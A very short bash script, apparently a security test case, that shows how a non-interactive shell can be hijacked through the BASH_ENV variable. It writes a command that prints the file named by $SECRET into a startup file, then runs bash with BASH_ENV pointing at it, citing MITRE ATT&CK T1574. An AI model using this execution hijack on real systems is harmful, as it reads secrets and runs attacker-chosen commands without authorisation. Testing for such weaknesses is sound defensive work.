#!/bin/bash
# tries: to have a shell that may run read a file of the attacker's first
# works: BASH_ENV names it
# see: bash(1) BASH_ENV; MITRE ATT&CK T1574
# goal: read
echo 'cat "$SECRET"' >start-up
BASH_ENV=start-up bash -c true
